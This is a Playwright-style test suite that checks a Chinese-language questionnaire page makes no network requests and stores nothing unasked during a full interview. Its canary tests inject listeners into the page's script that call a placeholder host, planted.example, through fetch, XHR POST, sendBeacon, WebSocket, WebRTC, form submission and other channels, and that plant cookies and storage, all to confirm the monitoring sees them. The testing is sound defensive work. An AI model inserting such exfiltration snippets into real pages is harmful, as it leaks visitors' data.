// Nothing leaves the page and nothing stays behind: a whole interview in every form of the page, under the eyes of
// Chromium's DevTools. And the eyes are open: whatever is planted in a copy of the page is seen.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { handOf, launch, siteUrl, viewOf } from "./browser.mjs";
import { until } from "./drivers/until.mjs";
import { PHARMA } from "./enterprises.mjs";
import { FORMS } from "./forms.mjs";
import { begin, choose, send, started, walk } from "./walk.mjs";
import { stored, watch } from "./watch.mjs";

let browser;
before(async () => (browser = await launch()));
after(() => browser.close());

/** Opens a form of the page in a new context and watches it from when it has started. */
async function watched(form, { options, prepare = async () => {} } = {}) {
  const context = await browser.newContext({ locale: "zh-CN", viewport: { width: 1280, height: 800 }, ...options });
  const page = await context.newPage();
  const { seen, begin } = await watch(page);
  await prepare(page);
  await page.goto(await form.url());
  const view = await viewOf(page, form);
  const hand = handOf(view);
  await started(hand);
  begin();
  return { context, page, view, hand, seen };
}

/**
 * Everything that a visitor can do with the page: edit a list, save, open, share, print, have it remembered, change the
 * language, go back, clear. Returns what was stored before it was to be remembered, and while it was.
 */
async function visit(page, view, hand, travels) {
  await walk(hand, PHARMA);
  const button = (name) => view.getByRole("button", { name }).first();
  const saving = page.waitForEvent("download");
  await button("保存").click();
  const file = await (await saving).path();
  await button("生成分享链接").click();
  const make = view.getByRole("button", { name: "生成链接" });
  if (await make.count()) {
    await make.click();
    await view.locator("#sharing").getByRole("button", { name: "复制" }).click();
    await view.locator("#sharing [role=status]", { hasText: /\S/ }).waitFor();
  }
  await view.locator("#sharing").getByRole("button", { name: "知道了" }).click();
  const before = await stored(page);
  await view.locator("input[name=memory]").check();
  await button("打印").click();
  await view.locator("details > summary").first().click();
  // The history of the tab belongs to whoever owns it.
  if (travels) {
    await page.goBack();
    await view.locator("form").first().waitFor();
    await page.goForward();
  }
  await button("查看、更改回答").click();
  await view.locator("[data-answered=d3_drugs] button").click();
  await view.locator("[data-item='0']").getByRole("button", { name: "复制一条" }).click();
  await send(hand);
  await view.locator("[data-item='0']").getByRole("button", { name: "删除" }).click();
  await button("撤销删除").click();
  await view.locator(".tools button").last().click();
  await view.locator(".tools button").last().click();
  const kept = await stored(page);
  await button("清除").click();
  await view.locator("#clearing button.danger").click();
  await view.locator(".tools input[type=file]").setInputFiles(file);
  await view.locator("[data-answered=g_enterprise]").waitFor();
  return { before, kept };
}

for (const form of FORMS.filter(({ browsers }) => browsers.includes("Chromium"))) {
  test(`${form.name}: a whole interview asks the network for nothing, and stores only what is to be remembered`, async () => {
    const { context, page, view, hand, seen } = await watched(form);
    const { before, kept } = await visit(page, view, hand, view === page);
    assert.deepEqual(before, []);
    assert.equal(kept.length, 1, `${kept}`);
    assert.match(kept[0], /^localStorage zice\/1 \//);
    assert.deepEqual(await stored(page), [], "cleared");
    assert.deepEqual(seen, []);
    await context.close();
  });
}

/** Where planted requests go; there is no such place. */
const AWAY = "https://planted.example/";

/** What could carry data away, as a page would write it; and what is then seen of it. */
const CALLS = {
  fetch: [`fetch(away)`, /^Fetch |^connect-src /],
  XMLHttpRequest: [`const request = new XMLHttpRequest(); request.open("POST", away); request.send("x")`, /^XHR /],
  beacon: [`navigator.sendBeacon(away, "x")`, /^sendBeacon /],
  image: [`new Image().src = away`, /^Image /],
  style: [`document.body.style.backgroundImage = "url(" + away + ")"`, /^Image /],
  script: [`add("script", { src: away })`, /^Script |^script-src/],
  frame: [`add("iframe", { src: away })`, /^Document |^frame-src/],
  media: [`add("audio", { src: away })`, /^Media |^media-src/],
  stylesheet: [`add("link", { rel: "stylesheet", href: away })`, /^Stylesheet |^style-src/],
  preconnect: [`add("link", { rel: "preconnect", href: away })`, /^link preconnect /],
  import: [`import(away)`, /^Script |^script-src/],
  WebSocket: [`new WebSocket(away.replace("http", "ws"))`, /^WebSocket /],
  EventSource: [`new EventSource(away)`, /^EventSource /],
  WebTransport: [`new WebTransport(away)`, /^WebTransport /],
  WebRTC: [`new RTCPeerConnection({ iceServers: [{ urls: "stun:planted.example/WebRTC" }] })`, /^RTCPeerConnection/],
  Worker: [`new Worker("app.js?Worker")`, /^Worker |^worker /],
};

/** What would leave the page: each on its own, since the others would go with it. */
const DEPARTURES = {
  form: [`add("form", { action: away, target: "_blank" }).submit()`, /^form-action |^formSubmission|^popup |^window /],
  popup: [`open(away)`, /^window |^popup /],
  navigation: [`location.href = away`, /^scriptInitiated /],
};

/** What could be left behind. */
const KEPT = {
  localStorage: `localStorage.planted = 1`,
  sessionStorage: `sessionStorage.planted = 1`,
  cookie: `document.cookie = "planted=1"`,
  indexedDB: `indexedDB.open("planted")`,
  cache: `caches.open("planted")`,
  file: `navigator.storage.getDirectory().then((folder) => folder.getFileHandle("planted", { create: true }))`,
  window: `window.name = "planted"`,
};

/** A copy of the site that does more, as soon as the visitor clicks. */
const planted = (...codes) => ({
  prepare: (page) =>
    page.route(/app[^/]*\.js$/, async (route) => {
      const response = await route.fetch();
      const add = "const add = (tag, set) => document.body.appendChild(Object.assign(document.createElement(tag), set));";
      const listeners = codes.map((code) => `document.addEventListener("click", () => { ${code} }, true);`);
      await route.fulfill({ response, body: [await response.text(), add, ...listeners].join("\n") });
    }),
});

const site = { url: siteUrl };
const calling = ([name, [code]]) => `const away = ${JSON.stringify(AWAY + name)}; ${code}`;

for (const [policy, options] of [["under our content policy", {}], ["without it", { bypassCSP: true }]]) {
  for (const plants of [CALLS, ...Object.entries(DEPARTURES).map((one) => Object.fromEntries([one]))]) {
    test(`a canary: what is planted is seen ${policy}: ${Object.keys(plants)[0]}${Object.keys(plants).length > 1 ? " and all other calls" : ""}`, async () => {
      const { context, hand, seen } = await watched(site, { ...planted(...Object.entries(plants).map(calling)), options });
      // What goes away may end the click in the middle.
      await hand.click("input[name=date]").catch(() => {});
      for (const [name, [, expected]] of Object.entries(plants)) {
        await until(`${name} is seen`, () => seen.some((what) => expected.test(what) && what.includes(name)));
      }
      await context.close();
    });
  }
}

test("a canary: whatever is kept is found", async () => {
  const { context, page, hand, seen } = await watched(site, planted(...Object.values(KEPT)));
  await begin(hand, { date: "last" });
  await choose(hand, ["d8"]);
  const kinds = async () => (await stored(page)).map((what) => what.split(" ")[0]);
  await until("all is found", async () => (await kinds()).length === Object.keys(KEPT).length);
  assert.deepEqual(await kinds().then((all) => all.sort()), Object.keys(KEPT).sort());
  assert.deepEqual(seen, []);
  await context.close();
});
